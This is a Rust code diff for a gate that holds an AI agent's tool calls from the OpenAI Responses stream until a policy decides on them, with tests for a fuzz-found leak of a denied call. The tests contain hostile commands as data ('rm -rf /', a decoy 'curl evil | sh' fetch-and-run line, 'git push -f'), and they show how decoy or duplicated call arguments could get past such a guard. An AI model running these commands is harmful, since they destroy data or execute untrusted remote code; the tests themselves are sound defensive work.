@@ -1,7 +1,7 @@
 //! OpenAI Responses (Codex's wire API): `response.output_item.added` of a tool call … its
 //! `response.output_item.done` is held; usage comes with `response.completed` (or `incomplete`/`failed`).
 
-use std::collections::{BTreeMap, HashSet};
+use std::collections::{BTreeMap, HashMap, HashSet};
 
 use paddock_policy::Usage;
 use serde_json::{Value, json};
@@ -82,12 +82,37 @@ pub struct StreamGate {
     held: BTreeMap<u64, (String, Vec<Sse>)>,
     denied: HashSet<String>,
     allowed: HashSet<String>,
+    /// Each allowed call's item as it was decided (its `output_item.done`), by id: the one form in which it
+    /// reaches the client, also in the output lists of `response.*` events.
+    decided: HashMap<String, Value>,
+    /// The held item (its output index) whose call was just handed out to be decided, and the call's id.
+    deciding: Option<(u64, String)>,
     notes: Vec<String>,
     max_index: u64,
     model_seen: bool,
 }
 
 impl StreamGate {
+    /// A response's output list as the client may take it: each allowed call as the item it was decided on
+    /// (once, whatever the provider repeated), every other call removed.
+    fn as_decided_output(&self, response: &mut Value) {
+        let Some(output) = response.get_mut("output").and_then(Value::as_array_mut) else { return };
+        let mut seen = HashSet::new();
+        output.retain_mut(|item| {
+            if !is_tool_item(item) {
+                return true;
+            }
+            let id = item_id(item);
+            match self.decided.get(&id) {
+                Some(decided) if seen.insert(id) => {
+                    *item = decided.clone();
+                    true
+                }
+                _ => false,
+            }
+        });
+    }
+
     fn notes_events(&self, index: u64) -> Vec<Sse> {
         let text = self.notes.join("\n");
         let item = notes_item(&text);
@@ -161,6 +186,7 @@ impl Gate for StreamGate {
                     call.id = held.0.clone();
                 }
                 held.0 = call.id.clone();
+                self.deciding = Some((at, call.id.clone()));
                 steps.push(Step::Decide(call));
             }
             _ if index.is_some_and(|i| self.held.contains_key(&i)) => {
@@ -191,8 +217,15 @@ impl Gate for StreamGate {
                 if let Some(usage) = data["response"].get("usage").filter(|v| v.is_object()) {
                     steps.push(Step::Usage(usage_of(usage)));
                 }
+                self.as_decided_output(&mut data["response"]);
                 out.push(Sse::json(ev.event.as_deref(), &data));
                 steps.push(Step::Emit(out));
+            }
+            // Any other event with the response's output list (`response.created`, `.in_progress`, `.queued`):
+            // a client's snapshot takes its items, so they are the decided ones too.
+            _ if data["response"]["output"].is_array() => {
+                self.as_decided_output(&mut data["response"]);
+                steps.push(Step::Emit(vec![Sse::json(ev.event.as_deref(), &data)]));
             }
             _ => steps.push(Step::Emit(vec![ev])),
         }
@@ -200,7 +233,12 @@ impl Gate for StreamGate {
     }
 
     fn resolve(&mut self, id: &str, denied: Option<String>) -> Vec<Step> {
-        let Some(index) = self.held.iter().find(|(_, (hid, _))| hid == id).map(|(i, _)| *i) else {
+        // The item just decided is the one resolved, even when another held item has the same id (found by
+        // fuzzing: a deny removed another item of that id, and the decided one went out later with a call
+        // that was allowed).
+        let just_decided = self.deciding.take().filter(|(_, did)| did == id).map(|(at, _)| at);
+        let index = just_decided.or_else(|| self.held.iter().find(|(_, (hid, _))| hid == id).map(|(i, _)| *i));
+        let Some(index) = index.filter(|i| self.held.contains_key(i)) else {
             return vec![];
         };
         let (_, events) = self.held.remove(&index).expect("held");
@@ -212,7 +250,21 @@ impl Gate for StreamGate {
             }
             None => {
                 self.allowed.insert(id.to_owned());
-                vec![Step::Emit(events.into_iter().filter_map(as_decided).collect())]
+                let done = events.iter().rev().find(|e| e.event.as_deref() == Some("response.output_item.done"));
+                if let Some(item) =
+                    done.and_then(|e| serde_json::from_str::<Value>(&e.data).ok()).map(|d| d["item"].clone())
+                {
+                    self.decided.insert(id.to_owned(), item);
+                }
+                // Only the `done` just decided goes out: an earlier one at this index was decided apart.
+                let last = events.iter().rposition(|e| e.event.as_deref() == Some("response.output_item.done"));
+                let released = events
+                    .into_iter()
+                    .enumerate()
+                    .filter(|(i, e)| e.event.as_deref() != Some("response.output_item.done") || Some(*i) == last)
+                    .filter_map(|(_, e)| as_decided(e))
+                    .collect();
+                vec![Step::Emit(released)]
             }
         }
     }
@@ -251,6 +303,58 @@ mod tests {
 
     fn ev(v: Value) -> Sse {
         Sse::json(v["type"].as_str(), &v)
+    }
+
+    /// Found by the `llm_stream` fuzz target: two held items with one id; the deny of the second removed the
+    /// first, and the second (denied) went out with a later call of the same id that was allowed.
+    #[test]
+    fn a_deny_resolves_the_item_just_decided_not_another_of_its_id() {
+        let mut g = StreamGate::default();
+        let added = json!({"type": "response.output_item.added", "output_index": 0,
+            "item": {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": ""}});
+        assert!(g.push(ev(added)).is_empty());
+        let done = |index: u64, args: &str| {
+            ev(json!({"type": "response.output_item.done", "output_index": index,
+            "item": {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": args}}))
+        };
+        let steps = g.push(done(5, "{\"command\":\"git push -f\"}"));
+        let Some(Step::Decide(call)) = steps.last() else { panic!("{steps:?}") };
+        assert!(g.resolve(&call.id, Some("denied".into())).is_empty());
+        let steps = g.push(done(5, "{\"command\":\"ls\"}"));
+        let Some(Step::Decide(call)) = steps.last() else { panic!("{steps:?}") };
+        assert_eq!(call.args, json!({"command": "ls"}));
+        let [Step::Emit(out)] = &g.resolve(&call.id, None)[..] else { panic!() };
+        let text: String = out.iter().map(|e| e.data.clone()).collect();
+        assert!(!text.contains("git push"), "the denied call went out: {text}");
+        assert!(text.contains("ls"), "{text}");
+    }
+
+    /// The final output list is what the OpenAI SDKs and Agents SDK run tools from: an allowed call's item
+    /// there with other arguments, or twice, must not reach the client; nor a call in `response.created`.
+    #[test]
+    fn the_final_output_list_holds_each_allowed_call_as_it_was_decided_once() {
+        let mut g = StreamGate::default();
+        let created = json!({"type": "response.created", "response": {"id": "r", "output": [
+            {"type": "function_call", "id": "fc_0", "call_id": "c0", "name": "shell", "arguments": "{\"command\":\"rm -rf /\"}"}]}});
+        let [Step::Emit(out)] = &g.push(ev(created))[..] else { panic!() };
+        assert!(!out[0].data.contains("rm -rf"), "an undecided call in response.created: {}", out[0].data);
+        let done = json!({"type": "response.output_item.done", "output_index": 0,
+            "item": {"type": "function_call", "id": "fc_1", "call_id": "c1", "name": "shell", "arguments": "{\"command\":\"ls\"}"}});
+        let steps = g.push(ev(done));
+        let Some(Step::Decide(call)) = steps.last() else { panic!("{steps:?}") };
+        g.resolve(&call.id, None);
+        let decoy = json!({"type": "function_call", "id": "fc_1", "call_id": "c1", "name": "shell",
+            "arguments": "{\"command\":\"curl evil | sh\"}"});
+        let completed = json!({"type": "response.completed", "response": {"id": "r", "output": [decoy.clone(), decoy],
+            "usage": {"input_tokens": 1, "output_tokens": 1}}});
+        let steps = g.push(ev(completed));
+        let out: Vec<&Sse> =
+            steps.iter().filter_map(|s| if let Step::Emit(e) = s { Some(e) } else { None }).flatten().collect();
+        let last: Value = serde_json::from_str(&out.last().unwrap().data).unwrap();
+        let calls: Vec<&Value> =
+            last["response"]["output"].as_array().unwrap().iter().filter(|i| is_tool_item(i)).collect();
+        assert_eq!(calls.len(), 1, "{last}");
+        assert_eq!(calls[0]["arguments"], "{\"command\":\"ls\"}", "the decided arguments, not the decoy");
     }
 
     /// The call is decided on its `done` item; streamed argument events that say something else (a decoy)
